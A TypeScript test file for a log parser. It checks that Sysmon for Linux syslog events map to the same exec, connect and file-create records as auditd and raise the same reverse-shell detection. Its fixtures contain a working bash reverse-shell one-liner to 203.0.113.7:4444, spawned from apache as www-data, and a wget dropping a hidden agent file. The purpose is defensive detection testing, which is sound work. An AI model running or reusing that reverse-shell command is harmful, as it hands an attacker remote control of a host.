// Sysmon for Linux (XML events in syslog lines) read as the same typed events auditd gives: a
// process creation and a network connection from Sysmon and the same two actions from auditd
// give the same events and the same log detections. Events other than 1, 3, 11 stay `syslog`;
// a damaged XML event is a plain syslog line, never an error or a crash; chunk splits.
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { parseAll, parseWithSplits } from '../../../test/kits/chunk-parser';
import { runDetectors } from '../../../test/kits/detect';
import { tempDirs } from '../../../test/kits/temp-dirs';
import { addLocalUpload, createAssessment } from '../../assessments/service';
import { closeDb } from '../../db/client';
import { detectors } from '../../detect/registry';
import { type AuditProc, connectEvent, execveEvent, renderAuditEvent } from '../../generate/audit-format';
import { runIngest } from '../../pipeline';
import { createAuditdParser } from './auditd';
import { syslogFormats } from './syslog-formats';

afterAll(closeDb);
const tempDir = tempDirs();

const xml = (s: string) => s.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');

/** One Sysmon for Linux event as rsyslog writes it to /var/log/syslog (layout of Sysmon 1.x, Version 5 events). */
function sysmonLine(header: string, id: number, record: number, utc: string, data: Record<string, string>): string {
  const fields = Object.entries(data)
    .map(([k, v]) => `<Data Name="${k}">${xml(v)}</Data>`)
    .join('');
  return (
    `${header} web01 sysmon: <Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/>` +
    `<EventID>${id}</EventID><Version>5</Version><Level>4</Level><Task>${id}</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>` +
    `<TimeCreated SystemTime="${utc.replace(' ', 'T')}000Z"/><EventRecordID>${record}</EventRecordID><Correlation/>` +
    `<Execution ProcessID="1109" ThreadID="1109"/><Channel>Linux-Sysmon/Operational</Channel><Computer>web01</Computer>` +
    `<Security UserId="0"/></System><EventData>${fields}</EventData></Event>`
  );
}

const SHELL = ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'];
const SYSMON = [
  sysmonLine('2026-12-04T20:16:20.120000+00:00', 1, 75097, '2026-12-04 20:16:20.118', {
    RuleName: '-',
    UtcTime: '2026-12-04 20:16:20.118',
    ProcessGuid: '{ae88b96f-a8aa-6a8a-ad9d-cfc3e2550000}',
    ProcessId: '4242',
    Image: '/usr/bin/bash',
    FileVersion: '-',
    CommandLine: SHELL.join(' '),
    CurrentDirectory: '/var/www/html',
    User: 'www-data',
    LogonGuid: '{ae88b96f-0000-0000-2100-000000000000}',
    LogonId: '33',
    TerminalSessionId: '4294967295',
    IntegrityLevel: 'no level',
    Hashes: '-',
    ParentProcessGuid: '{ae88b96f-a8aa-6a8a-c521-477bd6550000}',
    ParentProcessId: '4200',
    ParentImage: '/usr/sbin/apache2',
    ParentCommandLine: '/usr/sbin/apache2 -k start',
    ParentUser: 'www-data',
  }),
  sysmonLine('2026-12-04T20:16:20.130000+00:00', 3, 75098, '2026-12-04 20:16:20.125', {
    RuleName: '-',
    UtcTime: '2026-12-04 20:16:20.125',
    ProcessGuid: '{ae88b96f-a8aa-6a8a-ad9d-cfc3e2550000}',
    ProcessId: '4243',
    Image: '/usr/bin/bash',
    User: 'www-data',
    Protocol: 'tcp',
    Initiated: 'true',
    SourceIsIpv6: 'false',
    SourceIp: '10.40.0.5',
    SourceHostname: '-',
    SourcePort: '51234',
    SourcePortName: '-',
    DestinationIsIpv6: 'false',
    DestinationIp: '203.0.113.7',
    DestinationHostname: '-',
    DestinationPort: '4444',
    DestinationPortName: '-',
  }),
  sysmonLine('2026-12-04T20:16:21.000000+00:00', 11, 75099, '2026-12-04 20:16:20.990', {
    RuleName: '-',
    UtcTime: '2026-12-04 20:16:20.990',
    ProcessGuid: '{ae88b96f-a8aa-6a8a-ad9d-cfc3e2550000}',
    ProcessId: '4250',
    Image: '/usr/bin/wget',
    TargetFilename: '/tmp/.x/agent',
    CreationUtcTime: '2026-12-04 20:16:20.990',
    User: 'www-data',
  }),
  sysmonLine('2026-12-04T20:16:22.000000+00:00', 5, 75100, '2026-12-04 20:16:21.500', {
    UtcTime: '2026-12-04 20:16:21.500',
    ProcessId: '4242',
    Image: '/usr/bin/bash',
  }),
].join('\n');

const PROC = (pid: number, comm: string, exe: string): AuditProc => ({
  pid,
  ppid: 4200,
  uid: 33,
  gid: 33,
  auid: 4294967295,
  ses: 4294967295,
  tty: '(none)',
  comm,
  exe,
});
const AUDITD = [
  renderAuditEvent('1733343380.118', 501, execveEvent(PROC(4242, 'bash', '/usr/bin/bash'), SHELL, '/var/www/html', '/usr/bin/bash')),
  renderAuditEvent('1733343380.125', 502, connectEvent(PROC(4243, 'bash', '/usr/bin/bash'), ['bash'], '203.0.113.7', 4444)),
]
  .join('')
  .replaceAll('1733343380', String(Date.parse('2026-12-04T20:16:20Z') / 1000));

const ctx = { path: 'syslog', timeZone: 'UTC' };
const syslog = () => {
  const f = syslogFormats.find((x) => x.sniff(Buffer.from(SYSMON)) > 0.5);
  if (f === undefined) throw new Error('no syslog format claims the Sysmon lines');
  return f;
};

describe('Sysmon for Linux', () => {
  it('process creation, network connection and file creation become exec, connect and file_create; other ids stay syslog', () => {
    const result = parseAll(syslog().createParser(ctx), Buffer.from(SYSMON));
    expect(result.invalid).toEqual([]);
    expect(result.records.map((r) => [r.kind, r.tsMs - Date.parse('2026-12-04T20:16:20Z'), r.hostName, r.program, r.pid, r.exe, r.userName])).toEqual([
      ['exec', 118, 'web01', 'bash', 4242, '/usr/bin/bash', 'www-data'],
      ['connect', 125, 'web01', 'bash', 4243, '/usr/bin/bash', 'www-data'],
      ['file_create', 990, 'web01', 'wget', 4250, '/usr/bin/wget', 'www-data'],
      ['syslog', 2000, 'web01', 'sysmon', undefined, undefined, undefined],
    ]);
    expect(result.records[0]).toMatchObject({
      argv: ['bash', '-c', 'bash', '-i', '>&', '/dev/tcp/203.0.113.7/4444', '0>&1'],
      cwd: '/var/www/html',
      ppid: 4200,
    });
    expect(result.records[1]).toMatchObject({ dstIp: '203.0.113.7', dstPort: 4444, result: 'success' });
    expect(result.records[2]?.paths).toEqual(['/tmp/.x/agent']);
  });

  it('the same fields as auditd’s execve and connect records', () => {
    const sysmon = parseAll(syslog().createParser(ctx), Buffer.from(SYSMON)).records;
    const audit = parseAll(createAuditdParser({ path: 'audit.log', timeZone: 'UTC', hostHint: 'web01' }), Buffer.from(AUDITD)).records;
    // Sysmon's network connection names no parent pid (auditd's SYSCALL record does): compared on exec only.
    const pick = (r: (typeof audit)[number]) => [
      r.kind,
      r.tsMs,
      r.hostName,
      r.program,
      r.pid,
      r.kind === 'exec' ? r.ppid : 0,
      r.exe,
      r.cwd,
      r.dstIp,
      r.dstPort,
      r.result,
    ];
    expect(sysmon.slice(0, 2).map(pick)).toEqual(audit.map(pick));
    expect(audit[0]?.argv).toEqual(SHELL);
  });

  it('a Sysmon process creation and network connection give the same log detections as the auditd records', async () => {
    const logDetectors = detectors.filter((d) => d.source === 'logs');
    const run = async (file: string, content: string) => {
      const dir = tempDir('sysmon-');
      fs.mkdirSync(path.join(dir, 'web01', path.dirname(file)), { recursive: true });
      fs.writeFileSync(path.join(dir, 'web01', file), content);
      const a = await createAssessment({ name: 'sysmon vs auditd' });
      await runIngest(await addLocalUpload({ assessmentId: a, kind: 'logs', file: dir }));
      const found = await runDetectors(a, logDetectors);
      return found.map((d) => [d.detector, d.stage, d.technique, d.hostName, d.peer, d.startTs.toISOString()]);
    };
    const fromSysmon = await run('var/log/syslog', SYSMON.split('\n').slice(0, 2).join('\n'));
    const fromAuditd = await run('var/log/audit/audit.log', AUDITD);
    expect(fromSysmon.length).toBeGreaterThan(0);
    expect(fromSysmon.map((d) => d[0])).toContain('logs.reverse-shell');
    expect(fromSysmon).toEqual(fromAuditd);
  });

  it('a damaged XML event is a plain syslog line, never an error', () => {
    const lines = SYSMON.split('\n');
    const broken = [(lines[0] ?? '').slice(0, 400), (lines[1] ?? '').replace('<EventID>3</EventID>', '<EventID>x</EventID>')].join('\n');
    const result = parseAll(syslog().createParser(ctx), Buffer.from(broken));
    expect(result.invalid).toEqual([]);
    expect(result.records.map((r) => [r.lineNo, r.kind, r.program])).toEqual([
      [1, 'syslog', 'sysmon'],
      [2, 'syslog', 'sysmon'],
    ]);
  });

  it('output does not depend on chunk boundaries', () => {
    parseWithSplits(() => syslog().createParser(ctx), Buffer.from(SYSMON), { maxChunk: 64, randomRuns: 10 });
  });
});
